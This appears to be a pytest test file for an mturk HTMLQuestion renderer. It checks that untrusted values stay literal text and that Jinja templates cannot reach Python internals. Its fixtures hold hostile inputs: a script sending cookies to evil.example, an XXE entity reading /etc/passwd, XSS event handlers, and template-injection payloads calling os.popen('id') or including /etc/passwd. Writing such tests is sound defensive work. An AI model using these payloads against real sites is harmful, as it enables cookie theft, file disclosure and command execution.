"""Values from strangers: what they cannot do in a page, whatever stands in them."""

from __future__ import annotations

from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest

from mturk.errors import ValidationError
from mturk.question.html_question import HTMLQuestion
from mturk.rendering.template import Engine

HOSTILE = {
    "another placeholder": "${secret}",
    "itself": "${cell}",
    "half a placeholder": "${sec",
    "the other half": "ret}",
    "an expression of Jinja2": "{{ secret }} {{ cell.__class__.__mro__ }}",
    "a statement of Jinja2": "{% for x in range(10**9) %}x{% endfor %}{% include 'mturk/survey.html' %}",
    "a comment of Jinja2": "{# gone #}",
    "an unfinished statement": "{% raw %}{{",
    "the end of CDATA": "]]></HTMLContent><FrameHeight>7</FrameHeight></HTMLQuestion><!--",
    "a part of the end of CDATA": "]]",
    "a document type with entities": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "an entity": "&lt;&amp;&#0;&nosuch;",
    "references to groups": r"\\g<0> \\1 \\g<name> \\x",
    "a format": "%s %(secret)s {secret} {0.__class__}",
    "a script": "<script>fetch('https://evil.example/?' + document.cookie)</script>",
    "an event": "<img src=x onerror=alert(1)>",
    "the end of the form": "</form><form action='https://evil.example/'>",
    "an attribute": '" onmouseover="alert(1)',
    "an address": "javascript:alert(1)",
    "a comment": "<!-- ",
    "a template of a browser": "<template>",
    "text from right to left": "\u202etxt.exe",
    "not one plane": "\U0001f4a3\U0010fffd",
    "very long": "<form '\"" * 5_000,
}
IN_TEXT = "<p id='place'>[${cell}]</p><p>${other}</p><form><input name='answer'></form>"
AS_JINJA = IN_TEXT.replace("${", "{{ ").replace("}", " }}")


def content(question: HTMLQuestion) -> str:
    """The page in the question's XML, which holds nothing else."""
    root = ET.fromstring(question.to_xml())
    name, height = root
    assert [part.tag.rpartition("}")[2] for part in (root, name, height)] == [
        "HTMLQuestion",
        "HTMLContent",
        "FrameHeight",
    ]
    assert (list(name), height.text) == ([], "0")
    return name.text or ""


@pytest.mark.parametrize("what", HOSTILE)
def test_a_value_goes_in_once_and_as_it_is_where_the_site_s_rules_fill_it(what: str) -> None:
    cell = HOSTILE[what]
    page = content(HTMLQuestion.from_string(IN_TEXT, {"cell": cell, "other": "kept"}, engine="mturk"))
    assert f"<p id='place'>[{cell}]</p><p>kept</p>" in page


class Words(HTMLParser):
    """The text of a page, and the tags in it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.text, self.tags = "", [""]
        self.feed(page)
        self.close()

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)


@pytest.mark.parametrize("what", HOSTILE)
def test_a_value_is_text_where_jinja_fills_it(what: str) -> None:
    cell = HOSTILE[what]
    words = Words(content(HTMLQuestion.from_string(AS_JINJA, {"cell": cell, "other": "kept"})))
    assert words.text == f"[{cell}]kept"
    assert words.tags == Words(AS_JINJA).tags


@pytest.mark.parametrize("engine", ["mturk", "jinja"])
@pytest.mark.parametrize("cell", ["\x00", "a\x1bb", "\ufffe", "\ud800"])
def test_a_value_that_xml_cannot_carry_is_refused(cell: str, engine: Engine) -> None:
    source = IN_TEXT if engine == "mturk" else AS_JINJA
    with pytest.raises(ValidationError, match="cannot stand in XML"):
        HTMLQuestion.from_string(source, {"cell": cell, "other": "kept"}, engine=engine).to_xml()


@pytest.mark.parametrize(
    "source",
    [
        "{{ cell.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ cell.format.__globals__ }}",
        "{{ rows.append(1) }}",
        "{{ ('%s' | attr('format'))('{0.__class__}') }}{{ '{0.__class__}'.format(cell) }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% include '../../../etc/passwd' %}",
        "{% include '/etc/passwd' %}",
    ],
)
def test_a_template_that_is_a_text_gets_at_nothing_but_its_values(source: str) -> None:
    with pytest.raises(ValidationError):
        HTMLQuestion.from_string(source, {"cell": "x", "rows": []})
